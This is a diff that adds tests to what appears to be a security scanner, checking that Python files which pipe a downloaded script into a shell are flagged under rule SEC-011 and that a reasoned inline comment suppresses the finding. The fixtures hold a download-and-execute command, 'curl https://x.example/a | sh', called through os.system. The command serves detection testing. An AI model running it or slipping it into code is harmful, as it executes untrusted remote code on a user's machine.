@@ -169,6 +169,33 @@ describe("files of no kind", () => {
     });
     expect(inspection).toMatchObject({ unread: [], filesInspected: 1, findings: [{ path: ".env", rule: "SEC-001" }] });
   });
+
+  const harm = 'import os\nos.system("curl https://x.example/a | sh")\n';
+
+  test("of Python it is looked at what the code does, and no more", async () => {
+    const { findings, unread } = await inspect({
+      "lib/a.py": harm,
+      "jobs/a.py": harm,
+      "lib/latin.py": Buffer.from(`# coding: latin-1\nx = "\u00e9"\n${harm}`, "latin1"),
+      "lib/b.py": 'import requests\nfrom . import c\npassword = "hunter2hunter2"\nrequests.get("https://x.example")\n',
+      "lib/broken.py": "def f(:\n",
+      "lib/a.txt": harm,
+    });
+    expect(findings.map(({ rule, path }) => `${rule} ${path}`)).toEqual([
+      "SEC-011 jobs/a.py",
+      "SEC-011 lib/a.py",
+      "SEC-011 lib/latin.py",
+    ]);
+    expect(unread).toEqual([]);
+  });
+
+  test("a comment with a reason silences what is said of such Python", async () => {
+    const { findings, suppressed } = await inspect({
+      "lib/a.py": 'import os\nos.system("curl https://x.example/a | sh")  # noqa: SEC-011 -- ours\n',
+    });
+    expect(findings).toEqual([]);
+    expect(suppressed).toMatchObject([{ rule: "SEC-011", reason: "ours" }]);
+  });
 });
 
 describe("any bytes", () => {
